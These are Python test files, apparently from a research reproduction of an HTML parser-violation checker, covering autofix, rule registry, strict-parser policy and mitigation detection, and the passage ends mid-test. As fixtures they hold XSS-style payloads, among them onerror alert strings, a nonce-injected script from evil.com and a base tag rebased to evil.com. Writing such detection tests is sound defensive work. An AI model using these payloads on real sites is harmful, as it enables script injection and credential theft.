        original_body = inner_html(parse(html).document.body)
        fixed_body = inner_html(parse(fixed).document.body)
        assert original_body == fixed_body


class TestHeadMoves:
    def test_dm1_meta_moved_to_head(self):
        html = PAGE.format('<meta http-equiv="Refresh" content="0; URL=/x">')
        result = autofix(html)
        report = CHECKER.check_html(result.fixed)
        assert "DM1" not in report.violated
        head = parse(result.fixed).document.head
        assert any(
            element.get("http-equiv") for element in head.find_all("meta")
        )

    def test_dm2_1_base_moved_to_head(self):
        html = PAGE.format('<base href="https://cdn.example/">')
        result = autofix(html)
        report = CHECKER.check_html(result.fixed)
        assert "DM2_1" not in report.violated

    def test_dm2_2_surplus_base_dropped(self):
        html = (
            "<!DOCTYPE html><html><head><title>t</title>"
            '<base href="/a/"><base href="/b/"></head><body>x</body></html>'
        )
        result = autofix(html)
        fixed_doc = parse(result.fixed).document
        assert len(fixed_doc.find_all("base")) == 1
        assert fixed_doc.find("base").get("href") == "/a/"
        assert "DM2_2" not in CHECKER.check_html(result.fixed).violated

    def test_dm2_3_base_moved_before_urls(self):
        html = (
            "<!DOCTYPE html><html><head><title>t</title>"
            '<link rel="stylesheet" href="/s.css"><base href="/app/">'
            "</head><body>x</body></html>"
        )
        result = autofix(html)
        assert "DM2_3" not in CHECKER.check_html(result.fixed).violated


class TestManualViolationsKept:
    def test_hf4_not_fixed(self):
        html = PAGE.format(
            "<table><tr><strong>X</strong></tr><tr><td>c</td></tr></table>"
        )
        result = autofix(html)
        assert not result.changed
        assert [f.violation for f in result.remaining] != []

    def test_mixed_page_fixes_only_fixable(self):
        html = PAGE.format(
            '<img src="a"alt="b">'
            "<table><tr><strong>X</strong></tr></table>"
        )
        result = autofix(html)
        report = CHECKER.check_html(result.fixed)
        assert "FB2" not in report.violated
        assert "HF4" in report.violated

    def test_clean_page_unchanged(self):
        html = PAGE.format("<p>fine</p>")
        result = autofix(html)
        assert not result.changed
        assert result.repaired == [] and result.remaining == []


class TestEstimateFixability:
    def test_fixable_only_page(self):
        report = CHECKER.check_html(PAGE.format('<img src="a"alt="b">'))
        assert estimate_fixability(report)

    def test_manual_page(self):
        report = CHECKER.check_html(PAGE.format(
            "<table><tr><strong>X</strong></tr></table>"
        ))
        assert not estimate_fixability(report)

    def test_clean_page_not_counted(self):
        report = CHECKER.check_html(PAGE.format("<p>x</p>"))
        assert not estimate_fixability(report)


FIXABLE_INJECTORS = ["FB1", "FB2", "DM3", "DM1", "DM2_1", "DM2_2", "DM2_3"]
MANUAL_INJECTORS = ["HF4", "HF5_2", "DE4", "DE3_2", "HF3_SECOND"]


class TestOnGeneratedPages:
    """Property: on realistic generated pages, autofix removes all
    auto-fixable violations and changes nothing else."""

    @pytest.mark.parametrize("name", FIXABLE_INJECTORS)
    def test_each_fixable_injector_repaired(self, name):
        for trial in range(3):
            draft = build_page("fix.example", "/p", random.Random(trial))
            INJECTORS[name].apply(draft, random.Random(trial + 50))
            result = autofix(draft.render())
            report = CHECKER.check_html(result.fixed)
            assert report.violated & AUTO_FIXABLE_IDS == set(), (
                name, trial, sorted(report.violated)
            )

    @pytest.mark.parametrize("name", MANUAL_INJECTORS)
    def test_manual_injectors_survive(self, name):
        draft = build_page("fix.example", "/p", random.Random(9))
        INJECTORS[name].apply(draft, random.Random(10))
        html = draft.render()
        before = CHECKER.check_html(html).violated
        result = autofix(html)
        after = CHECKER.check_html(result.fixed).violated
        assert after == before  # nothing fixable was present; untouched

    @given(
        st.lists(
            st.sampled_from(FIXABLE_INJECTORS),
            min_size=1, max_size=3, unique=True,
        ),
        st.integers(min_value=0, max_value=500),
    )
    @settings(max_examples=25, deadline=None)
    def test_autofix_idempotent(self, names, seed):
        """Repairing an already-repaired page changes nothing."""
        draft = build_page("idem.example", "/p", random.Random(seed))
        for name in names:
            INJECTORS[name].apply(draft, random.Random(seed + 3))
        once = autofix(draft.render())
        assert once.changed
        twice = autofix(once.fixed)
        assert not twice.changed
        assert twice.fixed == once.fixed

    @given(
        st.lists(
            st.sampled_from(FIXABLE_INJECTORS + MANUAL_INJECTORS),
            min_size=1, max_size=4, unique=True,
        ),
        st.integers(min_value=0, max_value=1000),
    )
    @settings(max_examples=40, deadline=None)
    def test_combined_injections(self, names, seed):
        draft = build_page("prop.example", "/p", random.Random(seed))
        for name in names:
            INJECTORS[name].apply(draft, random.Random(seed + hash(name) % 97))
        html = draft.render()
        before_manual = CHECKER.check_html(html).violated - AUTO_FIXABLE_IDS
        result = autofix(html)
        report = CHECKER.check_html(result.fixed)
        # all fixable gone
        assert report.violated & AUTO_FIXABLE_IDS == set()
        # manual-only set preserved
        assert report.violated == before_manual
