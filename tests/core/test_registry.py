"""Violation registry (Table 1) consistency tests."""
from __future__ import annotations

import pytest

from repro.core import (
    ALL_IDS,
    AUTO_FIXABLE_IDS,
    FAMILIES,
    IDS_BY_GROUP,
    REGISTRY,
    Category,
    Group,
    family_of,
    group_of,
)
from repro.core.rules import RULE_CLASSES


class TestRegistry:
    def test_twenty_subchecks(self):
        assert len(REGISTRY) == 20

    def test_fourteen_families(self):
        """Table 1 lists 14 violation families."""
        assert len(FAMILIES) == 14

    def test_expected_ids(self):
        assert set(ALL_IDS) == {
            "DE1", "DE2", "DE3_1", "DE3_2", "DE3_3", "DE4",
            "DM1", "DM2_1", "DM2_2", "DM2_3", "DM3",
            "HF1", "HF2", "HF3", "HF4", "HF5_1", "HF5_2", "HF5_3",
            "FB1", "FB2",
        }

    def test_groups_match_prefix(self):
        for violation in REGISTRY.values():
            assert violation.group.value == violation.id[:2]

    def test_family_derivation(self):
        assert family_of("DM2_1") == "DM2"
        assert family_of("FB1") == "FB1"
        assert family_of("HF5_3") == "HF5"

    def test_group_lookup(self):
        assert group_of("DE3_2") is Group.DATA_EXFILTRATION
        assert group_of("FB2") is Group.FILTER_BYPASS

    def test_ids_by_group_partition(self):
        all_ids = [vid for ids in IDS_BY_GROUP.values() for vid in ids]
        assert sorted(all_ids) == sorted(ALL_IDS)

    def test_auto_fixable_set_matches_section_44(self):
        """Section 4.4: FB and DM violations are automatically fixable,
        HF and DE require manual work."""
        assert AUTO_FIXABLE_IDS == {
            "FB1", "FB2", "DM1", "DM2_1", "DM2_2", "DM2_3", "DM3"
        }

    def test_categories_match_paper(self):
        definition = {v.id for v in REGISTRY.values()
                      if v.category is Category.DEFINITION}
        # section 3.2.1 lists DE1, DE2, DM1, DM2, HF1, HF2 as definition
        # violations
        assert {"DE1", "DE2", "DM1", "DM2_1", "DM2_2", "DM2_3", "HF1",
                "HF2"} == definition

    def test_every_violation_has_definition_text(self):
        for violation in REGISTRY.values():
            assert violation.name
            assert len(violation.definition) > 20

    def test_one_rule_per_subcheck(self):
        rule_ids = [rule_class.id for rule_class in RULE_CLASSES]
        assert sorted(rule_ids) == sorted(ALL_IDS)
        assert len(set(rule_ids)) == len(rule_ids)

    def test_rule_with_bad_id_rejected(self):
        from repro.core.rules.base import Rule

        class Bogus(Rule):
            id = "XX9"

            def check(self, result):  # pragma: no cover
                return []

        with pytest.raises(ValueError):
            Bogus()
