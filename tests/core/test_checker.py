"""Checker engine tests: report shape, rule subsets, encoding filter."""
from __future__ import annotations

import pytest

from repro.core import Checker, CheckReport, DecodeFailure
from repro.core.rules import MissingSpaceBetweenAttributes, SlashBetweenAttributes

DIRTY = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>"
    '<img src="a"onerror="x()"><img/src="b">'
    "<table><tr><strong>X</strong></tr></table></body></html>"
)


class TestChecker:
    def test_full_rule_set_by_default(self):
        report = Checker().check_html(DIRTY)
        assert {"FB1", "FB2", "HF4"} <= report.violated

    def test_rule_subset(self):
        checker = Checker(rules=[MissingSpaceBetweenAttributes()])
        report = checker.check_html(DIRTY)
        assert report.violated == {"FB2"}

    def test_counts(self):
        report = Checker().check_html(DIRTY)
        assert report.counts["FB2"] == 1
        assert report.counts["FB1"] == 1

    def test_has(self):
        report = Checker().check_html(DIRTY)
        assert report.has("FB1")
        assert not report.has("DE1")

    def test_len_is_total_findings(self):
        report = Checker().check_html(DIRTY)
        assert len(report) == len(report.findings)

    def test_url_recorded(self):
        report = Checker().check_html(DIRTY, url="https://s/p")
        assert report.url == "https://s/p"

    def test_parse_not_kept_by_default(self):
        assert Checker().check_html(DIRTY).parse_result is None

    def test_keep_parse(self):
        report = Checker(keep_parse=True).check_html(DIRTY)
        assert report.parse_result is not None
        assert report.parse_result.document.body is not None

    def test_finding_type_accessor(self):
        report = Checker().check_html(DIRTY)
        finding = report.findings[0]
        assert finding.type.id == finding.violation


class TestEncodingFilter:
    def test_utf8_bytes_checked(self):
        report = Checker().check_bytes(DIRTY.encode("utf-8"))
        assert isinstance(report, CheckReport)
        assert "FB2" in report.violated

    def test_non_utf8_yields_typed_failure(self):
        outcome = Checker().check_bytes("café".encode("latin-1"))
        assert isinstance(outcome, DecodeFailure)
        assert outcome.reason == "not-utf8"

    def test_failure_carries_url(self):
        outcome = Checker().check_bytes(b"\xff\xfe\x00", url="https://s/p")
        assert isinstance(outcome, DecodeFailure)
        assert outcome.url == "https://s/p"

    def test_failure_reports_declared_encoding(self):
        page = b'<meta charset="shift_jis">\x93\xfa\x96\x7b'
        outcome = Checker().check_bytes(page)
        assert isinstance(outcome, DecodeFailure)
        assert outcome.declared_encoding == "shift_jis"

    def test_failure_without_declaration(self):
        outcome = Checker().check_bytes("café".encode("latin-1"))
        assert isinstance(outcome, DecodeFailure)
        assert outcome.declared_encoding == ""

    def test_bom_handled(self):
        report = Checker().check_bytes(b"\xef\xbb\xbf" + DIRTY.encode())
        assert isinstance(report, CheckReport)


class TestIndependence:
    """The paper runs rules independently; a rule subset must report the
    same findings for its rule as the full set does."""

    @pytest.mark.parametrize("rule_class", [SlashBetweenAttributes,
                                            MissingSpaceBetweenAttributes])
    def test_subset_equals_full(self, rule_class):
        full = Checker().check_html(DIRTY)
        solo = Checker(rules=[rule_class()]).check_html(DIRTY)
        rule_id = rule_class.id
        assert [f.offset for f in solo.findings] == [
            f.offset for f in full.findings if f.violation == rule_id
        ]
