"""STRICT-PARSER roadmap (section 5.3) tests: header parsing, policy
enforcement, monitor reports, and the staged rollout simulation."""
from __future__ import annotations

import pytest

from repro.commoncrawl import calibration as cal
from repro.core import (
    INITIAL_ENFORCED,
    StrictHeaderError,
    StrictMode,
    StrictParserPolicy,
    deprecation_warning,
    parse_strict_header,
    parse_with_policy,
    simulate_rollout,
)
from repro.core.violations import ALL_IDS

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)
FB2_PAGE = PAGE.format('<img src="a"onerror="x()">')
DE_PAGE = "<!DOCTYPE html><html><body><select><option>France"
CLEAN_PAGE = PAGE.format("<p>x</p>")


class TestHeaderParsing:
    def test_absent_header_is_default(self):
        policy = parse_strict_header(None)
        assert policy.mode is StrictMode.DEFAULT
        assert policy.monitor_url is None

    @pytest.mark.parametrize("value,mode", [
        ("strict", StrictMode.STRICT),
        ("STRICT", StrictMode.STRICT),
        ("unsafe", StrictMode.UNSAFE),
        ("default", StrictMode.DEFAULT),
    ])
    def test_modes(self, value, mode):
        assert parse_strict_header(value).mode is mode

    def test_monitor_directive(self):
        policy = parse_strict_header(
            'strict; monitor="https://rep.example/csp"'
        )
        assert policy.monitor_url == "https://rep.example/csp"

    def test_unknown_mode_rejected(self):
        with pytest.raises(StrictHeaderError):
            parse_strict_header("lenient")

    def test_unknown_directive_rejected(self):
        with pytest.raises(StrictHeaderError):
            parse_strict_header("strict; frobnicate=1")

    def test_header_value_roundtrip(self):
        policy = StrictParserPolicy(StrictMode.STRICT, "https://m/")
        assert parse_strict_header(policy.header_value()) == policy


class TestPolicyEnforcement:
    def test_strict_blocks_any_violation(self):
        outcome = parse_with_policy(
            FB2_PAGE, StrictParserPolicy(StrictMode.STRICT)
        )
        assert outcome.blocked
        assert "FB2" in outcome.blocked_violations

    def test_strict_passes_clean_page(self):
        outcome = parse_with_policy(
            CLEAN_PAGE, StrictParserPolicy(StrictMode.STRICT)
        )
        assert not outcome.blocked

    def test_unsafe_never_blocks(self):
        outcome = parse_with_policy(
            FB2_PAGE, StrictParserPolicy(StrictMode.UNSAFE)
        )
        assert not outcome.blocked

    def test_default_blocks_only_enforced_list(self):
        # FB2 is not on the initial enforced list
        outcome = parse_with_policy(FB2_PAGE, StrictParserPolicy())
        assert not outcome.blocked
        # DE2 (rare, dangling-markup shaped) is
        outcome = parse_with_policy(DE_PAGE, StrictParserPolicy())
        assert outcome.blocked
        assert "DE2" in outcome.blocked_violations

    def test_default_with_grown_enforced_list(self):
        outcome = parse_with_policy(
            FB2_PAGE, StrictParserPolicy(),
            enforced=frozenset(ALL_IDS),
        )
        assert outcome.blocked

    def test_monitor_notified_even_when_not_blocked(self):
        policy = StrictParserPolicy(StrictMode.DEFAULT, "https://mon/")
        outcome = parse_with_policy(FB2_PAGE, policy, url="https://s/p")
        assert len(outcome.notifications) == 1
        notification = outcome.notifications[0]
        assert notification.monitor_url == "https://mon/"
        assert "FB2" in notification.violations
        assert not notification.blocked

    def test_no_notification_for_clean_page(self):
        policy = StrictParserPolicy(StrictMode.STRICT, "https://mon/")
        outcome = parse_with_policy(CLEAN_PAGE, policy)
        assert outcome.notifications == []


class TestInitialEnforcedList:
    def test_contains_rare_violations_only(self):
        """Section 5.3.2: the list starts with violations that 'rarely
        appear in our analysis, such as all math element-related
        violations or dangling markup'."""
        for violation in INITIAL_ENFORCED:
            assert cal.UNION_PREVALENCE[violation] < 0.05

    def test_mathml_violation_enforced(self):
        assert "HF5_3" in INITIAL_ENFORCED


class TestRolloutSimulation:
    def prevalence(self):
        return {
            year: {
                rule: cal.YEARLY_PREVALENCE[rule][cal.YEARS.index(year)]
                for rule in ALL_IDS
            }
            for year in cal.YEARS
        }

    def test_rollout_reaches_full_enforcement(self):
        plan = simulate_rollout(self.prevalence())
        assert plan.fully_enforced_year is not None

    def test_enforced_list_grows_monotonically(self):
        plan = simulate_rollout(self.prevalence())
        sizes = [len(stage.enforced) for stage in plan.stages]
        assert sizes == sorted(sizes)

    def test_rare_rules_enforced_before_common(self):
        plan = simulate_rollout(self.prevalence())
        year_of = {}
        for stage in plan.stages:
            for rule in stage.newly_enforced:
                year_of.setdefault(rule, stage.year)
        for rule in INITIAL_ENFORCED:
            year_of.setdefault(rule, plan.stages[0].year)
        assert year_of["HF5_3"] <= year_of["FB2"]
        assert year_of["DE1"] <= year_of["DM3"]

    def test_breakage_bounded(self):
        plan = simulate_rollout(self.prevalence())
        for stage in plan.stages:
            assert 0.0 <= stage.breakage <= 1.0

    def test_threshold_respected_in_measured_years(self):
        prevalence = self.prevalence()
        plan = simulate_rollout(prevalence, threshold=0.005)
        measured_years = set(prevalence)
        for stage in plan.stages:
            if stage.year not in measured_years:
                continue
            for rule in stage.newly_enforced:
                assert prevalence[stage.year][rule] < 0.005

    def test_faster_decay_finishes_sooner(self):
        slow = simulate_rollout(self.prevalence(), annual_decay=0.8)
        fast = simulate_rollout(self.prevalence(), annual_decay=0.3)
        assert (fast.fully_enforced_year or 9999) <= (
            slow.fully_enforced_year or 9999
        )


class TestDeprecationWarning:
    def test_warning_is_specific(self):
        message = deprecation_warning("FB2")
        assert "FB2" in message
        assert "whitespace" in message.lower()
        assert "STRICT-PARSER" in message

    def test_every_violation_has_warning(self):
        for violation in ALL_IDS:
            assert deprecation_warning(violation)
