"""Section 4.5 mitigation detector tests."""
from __future__ import annotations

from repro.core import measure_mitigations_html

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)


class TestScriptInAttribute:
    def test_srcdoc_hit(self):
        report = measure_mitigations_html(PAGE.format(
            '<iframe srcdoc="<script>x()</script>"></iframe>'
        ))
        assert len(report.script_in_attr) == 1
        hit = report.script_in_attr[0]
        assert hit.element == "iframe"
        assert hit.attribute == "srcdoc"
        assert not hit.is_nonced_script

    def test_custom_data_attribute_hit(self):
        report = measure_mitigations_html(PAGE.format(
            '<div data-embed="<script src=/w.js></script>">x</div>'
        ))
        assert report.script_in_attr
        assert not report.affected_by_nonce_mitigation

    def test_nonced_script_detected(self):
        """The one shape the Chromium mitigation would neutralize: a nonced
        script whose attribute swallowed a following '<script'."""
        report = measure_mitigations_html(PAGE.format(
            '<script src="https://evil.com/x.js" nonce="r4nd" '
            'inj="<p>x</p><script id=in-action>"></script>'
        ))
        assert report.affected_by_nonce_mitigation

    def test_clean_page(self):
        report = measure_mitigations_html(PAGE.format("<p>x</p>"))
        assert report.script_in_attr == []


class TestUrlNewlines:
    def test_newline_only(self):
        report = measure_mitigations_html(PAGE.format(
            '<img src="https://cdn/x\ny.png">'
        ))
        assert report.urls_with_newline == 1
        assert report.urls_with_newline_and_lt == 0
        assert not report.conflicts_with_url_mitigation

    def test_newline_and_lt(self):
        report = measure_mitigations_html(PAGE.format(
            '<a href="https://e/?p=\n<q>">x</a>'
        ))
        assert report.urls_with_newline == 1
        assert report.urls_with_newline_and_lt == 1
        assert report.conflicts_with_url_mitigation

    def test_lt_only_not_counted(self):
        report = measure_mitigations_html(PAGE.format(
            '<a href="https://e/?p=<q>">x</a>'
        ))
        assert report.urls_with_newline == 0

    def test_newline_in_non_url_attribute_ignored(self):
        report = measure_mitigations_html(PAGE.format(
            '<div title="a\nb">x</div>'
        ))
        assert report.urls_with_newline == 0

    def test_multiple_urls_counted(self):
        report = measure_mitigations_html(PAGE.format(
            '<img src="/a\nb"><img src="/c\nd"><a href="/e\n<f">x</a>'
        ))
        assert report.urls_with_newline == 3
        assert report.urls_with_newline_and_lt == 1
