"""The DOM-free streaming check mode (``Checker(mode="stream")``).

Stream mode runs the fused tree dispatch over elements emitted pre-order
*during* the parse.  Pages whose construction needs a tree-reordering
mutation (foster parenting, adoption agency, frameset takeover,
head-element reroute) taint mid-parse and fall back to walking the
element-complete text-free tree — same findings either way.  These tests
pin the parity contract per taint class, the fallback counters the bench
exports, and the single-pass mitigation sweep.
"""
from __future__ import annotations

import random

import pytest

from repro.commoncrawl.templates import INJECTORS, build_page
from repro.core import Checker
from repro.core.mitigations import measure_mitigations
from repro.html import StreamTaint, StreamTreeBuilder, parse_bytes

#: (name, page) — one witness per taint class, plus clean stream pages
TAINT_PAGES = [
    ("foster-parenting", b"<table><div>foster</div></table>"),
    ("adoption-agency", b"<b><p>x</b>y</p>"),
    ("frameset-takeover", b"<div></div><frameset><frame></frameset>"),
    ("head-after-head", b"<head></head><base href='x'>"),
    ("nested-table-text", b"<table><table><p>x"),
]

STREAM_PAGES = [
    ("plain", b"<!doctype html><p>hello <b>world</b></p>"),
    ("table-whitespace", b"<table> \t\n<tr><td>x</td></tr></table>"),
    ("violations", b"<base href='/a'><base href='/b'><p onclick=x>y</p>"),
    ("foreign", b"<svg><desc>d</desc><circle/></svg><math><mi>x</mi></math>"),
]


def _finding_key(finding):
    return (finding.violation, finding.offset, finding.message)


class TestStreamParity:
    @pytest.mark.parametrize("name,page", TAINT_PAGES + STREAM_PAGES)
    def test_findings_bit_identical(self, name, page):
        dom = Checker(mode="dom").check_bytes(page)
        stream = Checker(mode="stream").check_bytes(page)
        assert [_finding_key(f) for f in stream.findings] == [
            _finding_key(f) for f in dom.findings
        ]

    def test_template_corpus_parity(self):
        rng = random.Random(5)
        dom_checker = Checker(mode="dom")
        stream_checker = Checker(mode="stream")
        for seed in range(8):
            draft = build_page("stream.example", f"/{seed}", random.Random(seed))
            for name in sorted(INJECTORS):
                if not INJECTORS[name].terminal:
                    if rng.random() < 0.3:
                        INJECTORS[name].apply(draft, rng)
            page = draft.render().encode("utf-8")
            dom = dom_checker.check_bytes(page)
            stream = stream_checker.check_bytes(page)
            assert [_finding_key(f) for f in stream.findings] == [
                _finding_key(f) for f in dom.findings
            ], seed


class TestTaintFallback:
    @pytest.mark.parametrize("name,page", TAINT_PAGES)
    def test_taint_classes_fall_back(self, name, page):
        checker = Checker(mode="stream")
        checker.check_bytes(page)
        assert checker.pages_checked == 1
        assert checker.stream_fallbacks == 1

    @pytest.mark.parametrize("name,page", STREAM_PAGES)
    def test_stream_safe_pages_stay_dom_free(self, name, page):
        checker = Checker(mode="stream")
        checker.check_bytes(page)
        assert checker.pages_checked == 1
        assert checker.stream_fallbacks == 0

    def test_counters_accumulate(self):
        checker = Checker(mode="stream")
        for _name, page in TAINT_PAGES + STREAM_PAGES:
            checker.check_bytes(page)
        assert checker.pages_checked == len(TAINT_PAGES) + len(STREAM_PAGES)
        assert checker.stream_fallbacks == len(TAINT_PAGES)

    def test_dom_mode_never_counts_fallbacks(self):
        checker = Checker(mode="dom")
        for _name, page in TAINT_PAGES:
            checker.check_bytes(page)
        assert checker.pages_checked == len(TAINT_PAGES)
        assert checker.stream_fallbacks == 0

    @pytest.mark.parametrize("name,page", TAINT_PAGES)
    def test_raise_policy_names_the_mutation(self, name, page):
        builder = StreamTreeBuilder(taint="raise")
        with pytest.raises(StreamTaint):
            builder.parse_bytes(page)

    def test_tainted_tree_is_element_complete(self):
        # the fallback walks the stream builder's own tree: every element
        # of the full parse must be present (text/comments need not be)
        page = b"<table><div id=f>foster</div><tr><td>x</td></tr></table>"
        builder = StreamTreeBuilder()
        result = builder.parse_bytes(page)
        assert builder.tainted is not None
        full = parse_bytes(page)
        names = [e.name for e in result.document.iter_elements()]
        assert names == [e.name for e in full.document.iter_elements()]

    def test_unknown_mode_rejected(self):
        with pytest.raises(ValueError):
            Checker(mode="chunked")


class TestFusedMitigationSweep:
    @pytest.mark.parametrize(
        "page",
        [
            b"<a href='/x\ny'>n</a><img src=\"a\nb\">",
            b"<div data-x='<script>alert(1)</script>'></div>",
            b"<script nonce=abc data-p='<script>'>x</script>",
            b"<p>no signals at all</p>",
        ],
    )
    def test_collector_matches_standalone_pass(self, page):
        checker = Checker(mode="stream")
        result = checker.parse_page_bytes(page)
        report, mitigation = checker.check_parse_with_mitigations(result)
        standalone = measure_mitigations(result)
        assert mitigation == standalone
        assert [_finding_key(f) for f in report.findings] == [
            _finding_key(f) for f in checker.check_parse(result).findings
        ]

    def test_reference_engine_equivalent(self):
        page = b"<a href='/x\ny'>n</a><base href=a><base href=b>"
        fused = Checker(mode="dom")
        reference = Checker(engine="reference")
        fused_report, fused_mit = fused.check_parse_with_mitigations(
            fused.parse_page_bytes(page)
        )
        ref_report, ref_mit = reference.check_parse_with_mitigations(
            reference.parse_page_bytes(page)
        )
        assert fused_mit == ref_mit
        assert sorted(_finding_key(f) for f in fused_report.findings) == sorted(
            _finding_key(f) for f in ref_report.findings
        )
