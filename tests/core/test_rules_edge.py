"""Edge cases for the violation rules: attribute variants, offsets,
evidence snippets, interactions."""
from __future__ import annotations

import pytest

from repro.core import Checker

CHECKER = Checker()

PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)


def violated(html: str) -> frozenset[str]:
    return CHECKER.check_html(html).violated


class TestUrlAttributeVariants:
    @pytest.mark.parametrize("attr", ["href", "src", "action", "formaction",
                                      "poster", "data", "cite", "srcset",
                                      "ping", "background"])
    def test_de3_1_across_url_attributes(self, attr):
        html = PAGE.format(f'<x-el {attr}="https://e/?a=\n<b>">y</x-el>')
        assert "DE3_1" in violated(html)

    def test_xlink_href_in_svg(self):
        html = PAGE.format(
            '<svg><use xlink:href="#i\n<defs">x</use></svg>'
        )
        assert "DE3_1" in violated(html)

    def test_unquoted_value_cannot_hold_newline(self):
        # whitespace terminates an unquoted value, so no DE3_1 possible
        html = PAGE.format("<a href=https://e/?a=\n<b>y</b></a>")
        report = CHECKER.check_html(html)
        assert "DE3_1" not in report.violated

    def test_duplicate_attr_value_still_scanned(self):
        """DE3 checks include values of duplicate (dropped) attributes —
        the attacker-controlled copy is what matters."""
        html = PAGE.format('<a href="/ok" href="https://e/\n<x>">y</a>')
        assert "DE3_1" in violated(html)
        assert "DM3" in violated(html)


class TestOffsetsAndEvidence:
    def test_finding_offsets_point_into_source(self):
        html = PAGE.format('<img src="a.png"onerror="x()">')
        report = CHECKER.check_html(html)
        finding = next(f for f in report.findings if f.violation == "FB2")
        assert 0 <= finding.offset < len(html)

    def test_evidence_contains_context(self):
        html = PAGE.format('<img src="a.png"onerror="x()">')
        report = CHECKER.check_html(html)
        finding = next(f for f in report.findings if f.violation == "FB2")
        assert "onerror" in finding.evidence

    def test_structural_finding_offsets(self):
        html = "<html><body>x</body></html>"  # missing head tags
        report = CHECKER.check_html(html)
        hf1 = [f for f in report.findings if f.violation == "HF1"]
        assert hf1
        for finding in hf1:
            assert finding.offset >= -1

    def test_multiple_findings_counted_separately(self):
        html = PAGE.format(
            '<img src="a"alt="1"><img src="b"alt="2"><img src="c"alt="3">'
        )
        report = CHECKER.check_html(html)
        assert report.counts["FB2"] == 3


class TestInteractions:
    def test_fb2_inside_foster_parented_content(self):
        """Violations inside content the parser moves around must still be
        attributed (the checker reads the token stream, not the DOM)."""
        html = PAGE.format(
            '<table><tr><img src="x"alt="y"><td>c</td></tr></table>'
        )
        report = CHECKER.check_html(html)
        assert {"FB2", "HF4"} <= report.violated

    def test_violations_inside_noscript(self):
        html = PAGE.format(
            '<noscript><img src="x"alt="y"></noscript>'
        )
        assert "FB2" in violated(html)

    def test_violations_inside_svg_attributes(self):
        html = PAGE.format('<svg><image href="a"width="1"></image></svg>')
        assert "FB2" in violated(html)

    def test_de3_2_in_rawtext_not_flagged(self):
        """'<script' inside a real script body is not an attribute value."""
        html = PAGE.format(
            "<script>var tpl = \"<script src=/x>\";</script>"
        )
        report = CHECKER.check_html(html)
        assert "DE3_2" not in report.violated

    def test_comment_content_not_scanned(self):
        html = PAGE.format('<!-- <img src="a"onerror="x"> -->')
        assert violated(html) == frozenset()

    def test_meta_inside_template_in_body(self):
        # template content is document-inert; the DOM-based DM1 rule still
        # sees it (the markup exists), matching a source-level checker
        html = PAGE.format(
            '<template><meta http-equiv="refresh" content="0"></template>'
        )
        report = CHECKER.check_html(html)
        assert "DM1" in report.violated


class TestLargeInputs:
    def test_many_attributes(self):
        attrs = " ".join(f'data-a{i}="{i}"' for i in range(300))
        html = PAGE.format(f"<div {attrs}>x</div>")
        assert violated(html) == frozenset()

    def test_deep_nesting(self):
        depth = 150
        html = PAGE.format("<div>" * depth + "x" + "</div>" * depth)
        assert violated(html) == frozenset()

    def test_long_text_runs(self):
        html = PAGE.format("<p>" + "word " * 20_000 + "</p>")
        assert violated(html) == frozenset()
