"""Per-rule positive and negative cases, built around the paper's own
example payloads (Figures 2–5, 11–15)."""
from __future__ import annotations

import pytest

from repro.core import Checker

CHECKER = Checker()


def violated(html: str) -> frozenset[str]:
    return CHECKER.check_html(html).violated


PAGE = (
    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
)


class TestFB1:
    def test_paper_payload(self):
        assert "FB1" in violated(PAGE.format(
            "<img/src=\"x\"/onerror=\"alert('XSS')\">"
        ))

    def test_figure13_onclick(self):
        html = PAGE.format(
            '<a href="..." target="_blank" onClick="img=new Image();'
            'img.src="/foo?cl=16796306";">x</a>'
        )
        assert "FB1" in violated(html)

    def test_valid_self_closing_not_fb1(self):
        assert "FB1" not in violated(PAGE.format('<img src="x"/>'))


class TestFB2:
    def test_paper_payload(self):
        assert "FB2" in violated(PAGE.format(
            '<img src="users/injection"onerror="alert(1)">'
        ))

    def test_figure13_cote_divoire(self):
        html = PAGE.format(
            "<select><option value='Cote d'Ivoire'>CI</option></select>"
        )
        assert "FB2" in violated(html)

    def test_spaced_attributes_clean(self):
        assert "FB2" not in violated(PAGE.format('<img src="a" alt="b">'))


class TestDM3:
    def test_duplicate_onclick(self):
        assert "DM3" in violated(PAGE.format(
            '<div id="injection" onclick="evil()" onclick="benign()">x</div>'
        ))

    def test_figure14_duplicate_alt(self):
        assert "DM3" in violated(PAGE.format(
            '<img src="/a.jpg" alt="" width="10" alt="photo">'
        ))

    def test_distinct_attributes_clean(self):
        assert "DM3" not in violated(PAGE.format('<div id="a" class="b">x</div>'))


class TestDM1:
    def test_figure15_refresh_in_body(self):
        assert "DM1" in violated(PAGE.format(
            '<meta http-equiv="Refresh" content="0; URL=http://wds.iea.org/wds">'
        ))

    def test_meta_in_head_clean(self):
        html = (
            "<!DOCTYPE html><html><head><title>t</title>"
            '<meta http-equiv="X-UA-Compatible" content="IE=edge">'
            "</head><body>x</body></html>"
        )
        assert "DM1" not in violated(html)

    def test_meta_charset_in_body_not_dm1(self):
        """Only http-equiv metas are DM1 (charset metas lack the attack
        surface; they are not flagged)."""
        assert "DM1" not in violated(PAGE.format('<meta charset="utf-8">'))


class TestDM2:
    HEAD_PAGE = (
        "<!DOCTYPE html><html><head><title>t</title>{}</head>"
        "<body>{}</body></html>"
    )

    def test_dm2_1_base_in_body(self):
        report = CHECKER.check_html(self.HEAD_PAGE.format(
            "", '<base href="https://evil.com/">'
        ))
        assert "DM2_1" in report.violated

    def test_dm2_1_clean_in_head(self):
        assert "DM2_1" not in violated(self.HEAD_PAGE.format(
            '<base href="/app/">', "x"
        ))

    def test_dm2_2_multiple_base(self):
        assert "DM2_2" in violated(self.HEAD_PAGE.format(
            '<base href="/a/"><base href="/b/">', "x"
        ))

    def test_dm2_2_single_base_clean(self):
        assert "DM2_2" not in violated(self.HEAD_PAGE.format(
            '<base href="/a/">', "x"
        ))

    def test_dm2_3_base_after_link(self):
        assert "DM2_3" in violated(self.HEAD_PAGE.format(
            '<link rel="stylesheet" href="/s.css"><base href="/app/">', "x"
        ))

    def test_dm2_3_base_before_urls_clean(self):
        assert "DM2_3" not in violated(self.HEAD_PAGE.format(
            '<base href="/app/"><link rel="stylesheet" href="/s.css">', "x"
        ))

    def test_cve_2020_29653_shape(self):
        """The Froxlor credential theft: an injected base in the body
        rebases the relative script source that follows it."""
        html = self.HEAD_PAGE.format(
